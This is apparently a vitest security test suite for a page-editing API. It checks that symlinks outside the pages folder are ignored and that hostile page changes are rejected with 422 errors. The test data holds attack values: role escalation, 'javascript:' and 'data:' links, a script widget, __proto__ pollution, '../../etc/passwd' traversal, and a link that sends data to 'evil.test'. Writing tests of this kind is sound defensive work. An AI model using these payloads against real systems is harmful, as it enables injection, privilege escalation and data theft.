import { cpSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, inject, test } from 'vitest';
import { productRoot } from '#server/kernel/foundation/product-root.ts';
import { loadShipped, UnreadablePages } from '#server/kernel/documents/shipped.ts';
import type { Schemas } from '#openapi';
import { type Api, startApi } from '#tests/api/api.ts';
import { createEditor, diagnosticsOf } from '#tests/api/configuration-calls.ts';
import { signInAs } from '#tests/api/sign-in-as.ts';
import { describeOnEachDatabase } from '#tests/database/harness.ts';

const key = 'first-page.nodes';
const folder = join(productRoot(), 'stories/guide/first-page');
const text = (words: string) => ({ t: { 'zh-CN': words, 'en-US': words } });
const put = (value: Record<string, unknown>) => ({ op: 'insert', parent: 'root', slot: 'default', value });
const button = (...click: Record<string, unknown>[]) =>
  put({ id: 'x.go', widget: 'Button', props: { label: text('Go') }, on: { click } });
const load = (...actions: Record<string, unknown>[]) => ({ op: 'set', path: ['load'], value: actions });
const set = (name: string, value: string, was: string) => ({ op: 'set', path: [name], value, was });
const link = (href: unknown) => put({ id: 'x.a', widget: 'Link', props: { label: text('A'), href } });
const roles = { id: '01J00000000000000000000001', roles: ['WORKSPACE_SUPER_ADMIN'] };
const withData = "'https://evil.test/?' + string(data.positions.total)";

test('P28 a link in the folder of pages leads nowhere, and an id or an address of the product is not taken', async () => {
  const own = mkdtempSync(join(inject('runFolder'), 'pages-'));
  const outside = mkdtempSync(join(inject('runFolder'), 'outside-'));
  writeFileSync(join(outside, 'secret.page.json'), JSON.stringify({ kind: 'page', version: 1, id: 'outside.secret' }));
  cpSync(folder, own, { recursive: true });
  symlinkSync(join(outside, 'secret.page.json'), join(own, 'secret.page.json'));
  symlinkSync(outside, join(own, 'more'));
  const { documents, brought } = await loadShipped(productRoot(), own);
  expect(documents.has('outside.secret')).toBe(false);
  expect(brought.toSorted()).toEqual(['first-page.managed', key, 'first-page.positions']);
  writeFileSync(join(own, 'login.page.json'), JSON.stringify({ kind: 'page', version: 1, id: 'session.login' }));
  await expect(loadShipped(productRoot(), own)).rejects.toThrow(UnreadablePages);
});

describeOnEachDatabase('changes to a page of the deployment', (open) => {
  let api: Api;
  beforeAll(async () => {
    api = await startApi(await open(), { PAGES_DIR: folder });
    return () => api.close();
  });

  const attacks: [string, string, Record<string, unknown>[]][] = [
    ['loading grants roles', 'CHANGE_CALL', [load({ do: 'call', call: 'updateAccount', with: roles })]],
    ['a press grants roles', 'CHANGE_CALL', [button({ do: 'call', call: 'updateAccount', with: roles })]],
    ['loading writes', 'CHANGE_CALL', [load({ do: 'call', call: 'createPosition', with: { tagName: 'x' } })]],
    ['it is shown to more people', 'PAGE_OPERATION_FORBIDDEN', [set('roles', 'signedIn', 'accountAdmins')]],
    ['it takes another address', 'OVERLAY_NAME_RESERVED', [set('route', '/login', '/workbench/positions/nodes')]],
    ['it is another document', 'OVERLAY_NAME_RESERVED', [set('id', 'session.login', key)]],
    ['a link runs code', 'PAGE_URL_UNSAFE', [link('javascript:alert(1)')]],
    ['a link is data', 'PAGE_URL_UNSAFE', [link('data:text/html,x')]],
    ['data go into a foreign address', 'CHANGE_ADDRESS', [link({ $: withData })]],
    ['a widget is a script', 'PAGE_WIDGET_UNKNOWN', [put({ id: 'x.a', widget: 'script', props: { src: 'a.js' } })]],
    ['a prototype is written', 'OVERLAY_NAME_RESERVED', [{ op: 'set', path: ['__proto__', 'x'], value: 1 }]],
    ['a path leads out of the folder', 'PAGE_VALUE', [put({ id: 'x.a', fragment: '../../etc/passwd' })]],
  ];

  test.each(attacks)('P43 P18 a change is refused by which %s', async (_, code, operations) => {
    const editor = await createEditor(api, 'owner', { kind: 'overlay', key });
    const answer = await editor.save({ document: key, operations });
    expect(answer.status).toBe(422);
    expect(diagnosticsOf(answer).map((found) => found.code)).toContain(code);
  });

  test.each(['../package', '__proto__', 'constructor', 'first-page.nodes/../x', '/etc/passwd'])(
    'P43 P2 no page is changed by the name %s',
    async (name) => {
      const [odd, unknown] = await Promise.all(
        [name, 'no.such.page'].map(async (one) => {
          const editor = await createEditor(api, 'owner', { kind: 'overlay', key: one });
          return editor.save({ document: one, operations: [] });
        }),
      );
      expect([name, odd?.status, odd?.code]).toEqual([name, expect.any(Number), expect.any(String)]);
      expect([404, 422]).toContain(odd?.status);
      expect([404, 422]).toContain(unknown?.status);
    },
  );

  test('P2 P43 what one workspace changed is not found by another one, by name, by hash or by version', async () => {
    const editor = await createEditor(api, 'owner', { kind: 'overlay', key });
    const released = await editor.release({
      document: key,
      operations: [{ op: 'set', path: ['title'], value: text('Only at Acme'), was: { t: 'positions.title' } }],
    });
    expect(released.key).toBe(key);
    const hashOf = async (username: string) => {
      const visitor = api.visitor();
      const { accessToken: token } = await signInAs(visitor, username);
      const { data } = await visitor.call('listPages', {}, { token });
      // Safe: answers are validated against the contract.
      const hash = (data as Schemas['PageEntry'][]).find(({ id }) => id === key)?.hash['en-US'] ?? '';
      return { visitor, token, hash };
    };
    const [acme, globex] = [await hashOf('owner'), await hashOf('globex')];
    expect(acme.hash).not.toBe(globex.hash);
    const read = ({ visitor, token }: typeof acme, hash: string) => visitor.call('getDocument', { hash }, { token });
    expect((await read(acme, acme.hash)).bytes.toString()).toContain('Only at Acme');
    const foreign = await read(globex, acme.hash);
    const unknown = await read(globex, 'f'.repeat(acme.hash.length));
    expect([foreign.status, foreign.data]).toEqual([unknown.status, unknown.data]);
    expect((await read(globex, globex.hash)).bytes.toString()).not.toContain('Only at Acme');
    const other = await createEditor(api, 'globex', { kind: 'overlay', key });
    expect(JSON.stringify([await other.get(), await other.list(), await other.versions()])).not.toContain(
      'Only at Acme',
    );
  });
});
